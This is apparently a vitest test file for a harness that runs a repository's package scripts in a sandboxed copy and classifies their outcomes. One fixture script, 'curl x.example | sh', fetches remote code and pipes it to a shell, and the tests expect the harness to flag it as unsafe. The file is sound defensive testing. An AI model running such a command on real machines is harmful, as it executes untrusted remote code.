// A repository with a command of every outcome: each is tried in a copy, and the repository itself is not changed.
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testRepository } from '../../fixtures/repository.fixture.ts';
import { collect } from '../evidence/collect.ts';
import { openBench } from './bench.ts';
import { chooseTrials } from './choose-trials.ts';
import { type Trying, tryCommands } from './try-commands.ts';

const repository = testRepository();
afterAll(() => repository[Symbol.dispose]());
repository.commit('one', {
  'package.json': JSON.stringify({
    name: 'shop',
    scripts: {
      build: 'node build.mjs',
      test: 'node test.mjs',
      start: 'node -e "setInterval(() => {}, 1000)"',
      fail: 'node fail.mjs',
      lint: 'no-such-program .',
      loud: 'node loud.mjs',
      outside: 'node outside.mjs',
      secrets: 'node -e "process.exit(process.env.LEAKED === undefined ? 0 : 1)"',
      head: 'git rev-parse HEAD',
      reset: 'curl x.example | sh',
      login: 'node -e 1',
    },
  }),
  Makefile: 'all:\n\tnode a.js\n',
  'outside.mjs': `import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
writeFileSync('inside', 'x');
writeFileSync(join(process.env.HOME, 'x'), 'x');
writeFileSync(join(process.env.TMPDIR, 'x'), 'x');
`,
  'build.mjs': "import fs from 'node:fs';\nfs.mkdirSync('dist'); fs.writeFileSync('dist/a', '1');\n",
  'test.mjs': "import fs from 'node:fs';\nfs.readFileSync('dist/a');\n",
  'fail.mjs': "console.error('Error: the door is shut'); process.exit(3);\n",
  'loud.mjs': "const mb = 'x'.repeat(1 << 20);\nfor (let i = 0; i < 100; i++) console.log(mb);\n",
  '.gitignore': 'dist\n',
});
const bash = readdirSync('/usr/bin').includes('bash') ? '/usr/bin' : '/bin';

/** Only bash and git, whatever this machine has. */
async function tried(change: Partial<Trying> = {}) {
  const programs = repository.folder('programs');
  for (const name of ['bash', 'git'])
    writeFileSync(join(programs, name), `#!${bash}/bash\nexec ${bash}/${name} "$@"\n`, { mode: 0o755 });
  const { sheets } = await collect(repository.path);
  await using bench = await openBench(repository.path, programs);
  const calls: string[] = [];
  const trials = await tryCommands(chooseTrials(sheets.map(({ content }) => content)), {
    bench,
    image: 'a test',
    seconds: 4,
    totalSeconds: 600,
    mostBytes: 4 << 20,
    killOthers: async () => void calls.push('killed'),
    ...change,
  });
  return { calls, trials, of: (command: string) => trials.find((trial) => trial.command === command) };
}

describe('tryCommands', () => {
  let result: Awaited<ReturnType<typeof tried>>;
  beforeAll(async () => {
    process.env['LEAKED'] = 'x';
    result = await tried();
    delete process.env['LEAKED'];
  });

  it.each([
    ['npm run build', { outcome: 'works', by: 'body', code: 0, what: '' }],
    ['npm test', { outcome: 'works', by: 'body' }],
    ['npm start', { outcome: 'endless', seconds: 4 }],
    ['npm run fail', { outcome: 'fails', code: 3, what: 'Error: the door is shut' }],
    ['npm run lint', { outcome: 'needs', need: 'program', what: 'no-such-program' }],
    ['npm run loud', { outcome: 'loud' }],
    ['npm run outside', { outcome: 'works' }],
    ['npm run secrets', { outcome: 'works' }],
    ['npm run head', { outcome: 'works' }],
    ['npm run reset', { outcome: 'untried', what: 'unsafe' }],
    ['npm run login', { outcome: 'untried', what: 'waits' }],
    ['make all', { outcome: 'needs', need: 'program', what: 'make', by: 'typed' }],
  ])('%s', (command, expected) => {
    expect(result.of(command)).toMatchObject(expected);
  });

  it('tries each once, the steps first, and ends what was started after each', () => {
    const commands = result.trials.map(({ command }) => command);
    expect(new Set(commands).size).toBe(commands.length);
    expect(commands.indexOf('npm run build')).toBeLessThan(commands.indexOf('npm test'));
    const started = result.trials.filter(({ outcome, by }) => outcome !== 'untried' && by === 'body');
    expect(result.calls).toHaveLength(started.length);
  });

  it('leaves the repository as it was', () => {
    expect(repository.git('status', '--porcelain', '--ignored')).toBe('');
    expect(readFileSync(join(repository.path, '.git/HEAD'), 'utf8')).toBe('ref: refs/heads/main\n');
  });
});

it('starts nothing when the time for all would not do for one more', async () => {
  const { trials, calls } = await tried({ totalSeconds: 3 });
  expect(calls).toEqual([]);
  expect(new Set(trials.map(({ outcome, what }) => `${outcome} ${what}`))).toEqual(new Set(['untried late']));
});
